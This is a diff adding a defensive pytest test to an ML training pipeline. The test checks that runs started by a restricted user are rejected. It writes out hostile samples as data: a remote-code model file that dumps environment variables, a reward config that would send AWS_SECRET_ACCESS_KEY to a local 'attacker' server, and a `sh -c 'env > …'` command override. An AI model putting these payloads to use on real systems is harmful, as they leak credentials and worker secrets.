@@ -943,3 +943,83 @@ def test_one_look_does_not_wait_for_the_hourly_watcher(stack, tmp_path):
         with get_client(sync_client=True) as client:
             for flow_run in runs_of("watch-new-data/watch", uri=str(incoming)):
                 client.set_flow_run_state(flow_run.id, Cancelling(), force=True)
+
+
+# --- an attacker who may only start deployment runs (issue 49: the operator's policy) -------------------------------
+
+
+class _Counting(http.server.BaseHTTPRequestHandler):
+    """An attacker's server: counts every request and keeps its Authorization header."""
+
+    seen: list = []
+
+    def do_POST(self):
+        type(self).seen.append(self.headers.get("Authorization"))
+        self.send_response(200)
+        self.end_headers()
+        self.wfile.write(b'{"choices": [{"message": {"content": "1"}}]}')
+
+    def log_message(self, *args):
+        pass
+
+
+def remote_code_model(folder: Path, marker: Path) -> Path:
+    """A model folder whose config.json maps its architecture to its own evil.py, which writes `marker` when imported
+    (transformers imports it only with trust_remote_code)."""
+    folder.mkdir(parents=True)
+    config = {"architectures": ["Evil"], "model_type": "evil", "auto_map": {"AutoConfig": "evil.EvilConfig",
+              "AutoModelForCausalLM": "evil.Evil"}}  # fmt: skip
+    (folder / "config.json").write_text(json.dumps(config))
+    (folder / "evil.py").write_text(f"import os\nopen({str(marker)!r}, 'w').write(str(dict(os.environ)))\n")
+    return folder
+
+
+@pytest.mark.slow
+def test_a_deployment_run_cannot_reach_the_worker(stack, tmp_path):
+    """Each way a person who may only start deployment runs reached the worker's secrets or machine, tried through
+    the server and the worker as they did: remote code, a worker variable sent to their host, job variables that
+    switch the policy off or replace the command, a job sized to take the machine, another job's deployment name.
+    Each run ends Rejected before anything of it runs, and nothing reached them."""
+    marker = tmp_path / "owned"
+    data = write_jsonl(tmp_path / "d.jsonl", arithmetic_rows(12))
+    out = tmp_path / "runs"
+    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Counting)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    attacker = f"http://127.0.0.1:{server.server_address[1]}/v1"
+    base = small_spec("attack", str(data), str(out))
+    judge = {"name": "llm_judge", "kwargs": {"base_url": attacker, "model": "m", "rubric": "Rate {completion}",
+                                             "api_key_env": "AWS_SECRET_ACCESS_KEY"}}  # fmt: skip
+    # a deployment name another job registered first
+    (out / "deployments").mkdir(parents=True)
+    (out / "deployments" / "shared.json").write_text(json.dumps({"name": "shared", "owner": "team-a", "versions": []}))
+    attacks = {
+        "remote code": ({"base_model": str(remote_code_model(tmp_path / "evil", marker)),
+                         "trl": {"trust_remote_code": True}}, None, "trl.trust_remote_code: runs a model's own code"),
+        "key to their host": ({"rewards": [judge]}, None, "rewards[0].kwargs.api_key_env: the value of "
+                              "AWS_SECRET_ACCESS_KEY may not be sent"),
+        "policy off by env": ({}, {"env": {"GRPOFLOW_ALLOW_SPEC_CODE": "unsandboxed", "GRPOFLOW_POLICY": "/dev/null",
+                                           "PATH": "/usr/bin"}}, "job variable 'env': this run sets it"),
+        "own command": ({}, {"command": f"sh -c 'env > {marker}'"}, "job variable 'command': this run sets it"),
+        "huge": ({"hyperparameters": {"max_steps": 2, "rollouts_per_prompt": 4096, "prompts_per_step": 64,
+                                      "max_response_length": 100000000}}, None, "is over the limit of 64"),
+        "takeover": ({"name": "team-b", "deploy": {"name": "shared"}}, None,
+                     "deployment 'shared' belongs to the jobs named 'team-a'"),
+    }  # fmt: skip
+    runs = {}
+    try:
+        with get_client(sync_client=True) as client:
+            retrain = client.read_deployment_by_name("grpo-pipeline/retrain")
+            for what, (changes, job_variables, _) in attacks.items():
+                spec = {**copy.deepcopy(base), "name": base["name"] + "-" + what.replace(" ", "-"), **changes}
+                runs[what] = client.create_flow_run_from_deployment(
+                    retrain.id, parameters={"spec": spec}, job_variables=job_variables
+                ).id
+        for what, (_, _, message) in attacks.items():
+            flow_run = wait_final(runs[what], timeout=300)
+            assert flow_run.state.name == "Rejected", (what, flow_run.state)
+            assert message in flow_run.state.message, (what, flow_run.state.message)
+        assert not marker.exists()  # no code of theirs ran, no environment of the worker's written out
+        assert _Counting.seen == []  # no request reached their server, with or without the key
+        assert sorted(p.name for p in out.iterdir()) == ["deployments"]  # no job folder of any of them
+    finally:
+        server.shutdown()
